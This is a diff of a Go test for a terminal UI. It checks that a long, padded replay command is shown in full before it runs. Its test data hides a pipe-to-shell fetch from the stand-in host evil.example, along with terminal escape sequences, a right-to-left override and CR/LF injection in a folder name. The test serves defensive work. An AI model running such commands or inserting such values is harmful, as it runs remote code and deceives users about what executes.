@@ -1,7 +1,6 @@
 package ui
 
 import (
-	"fmt"
 	"strings"
 	"testing"
 	"testing/synctest"
@@ -16,31 +15,32 @@ var furtive = "node build/index.js --note '" + strings.Repeat("a harmless note, 
 // All of a command is on the screen before it is run, and where it runs: enter
 // reads on until then.
 func TestCommandIsReadBeforeItRuns(t *testing.T) {
-	for _, size := range [][2]int{{120, 36}, {80, 24}, {40, 8}} {
-		name := fmt.Sprintf("replay-long-%dx%d", size[0], size[1])
-		t.Run(name, func(t *testing.T) {
-			synctest.Test(t, func(t *testing.T) {
-				f := newFakeReplayer()
-				f.plan.Unmarked, f.plan.Target, f.plan.Dir = nil, furtive, "/tmp/a folder/\x1b]0;x\x07"
-				d := rerun(t, f, Options{}, size[0], size[1])
-				d.press("R")
+	prompted := func(t *testing.T, f *fakeReplayer, w, h int) *driver {
+		f.plan.Unmarked, f.plan.Target, f.plan.Dir = nil, furtive, "/tmp/a folder/\x1b]0;x\x07"
+		d := rerun(t, f, Options{}, w, h)
+		d.press("R")
+		d.moment()
+		return d
+	}
+	screens(t, "replay-long", func(t *testing.T, w, h int) *driver { return prompted(t, newFakeReplayer(), w, h) })
+	for _, size := range sizes.layout {
+		synctest.Test(t, func(t *testing.T) {
+			f := newFakeReplayer()
+			d := prompted(t, f, size[0], size[1])
+			var seen strings.Builder
+			for i := 0; i < 200 && len(f.asked) == 0; i++ {
+				seen.WriteString(strings.Join(strings.Fields(strings.NewReplacer("│", " ").Replace(d.screen())), ""))
+				d.press("enter")
 				d.moment()
-				golden(t, name, d.screen())
-				var seen strings.Builder
-				for i := 0; i < 200 && len(f.asked) == 0; i++ {
-					seen.WriteString(strings.Join(strings.Fields(strings.NewReplacer("│", " ").Replace(d.screen())), ""))
-					d.press("enter")
-					d.moment()
+			}
+			if len(f.asked) != 1 || f.asked[0].Target != furtive || f.asked[0].Dir != f.plan.Dir {
+				t.Fatalf("%+v", f.asked)
+			}
+			for _, want := range []string{"|sh", "evil.example/x", "␛[2J", `\u202e`, "␍␊;", "/tmp/a", "folder/␛]0;x␇"} {
+				if !strings.Contains(seen.String(), want) {
+					t.Errorf("%q was not on the screen before it ran", want)
 				}
-				if len(f.asked) != 1 || f.asked[0].Target != furtive || f.asked[0].Dir != f.plan.Dir {
-					t.Fatalf("%+v", f.asked)
-				}
-				for _, want := range []string{"|sh", "evil.example/x", "␛[2J", `\u202e`, "␍␊;", "/tmp/a", "folder/␛]0;x␇"} {
-					if !strings.Contains(seen.String(), want) {
-						t.Errorf("%q was not on the screen before it ran", want)
-					}
-				}
-			})
+			}
 		})
 	}
 }
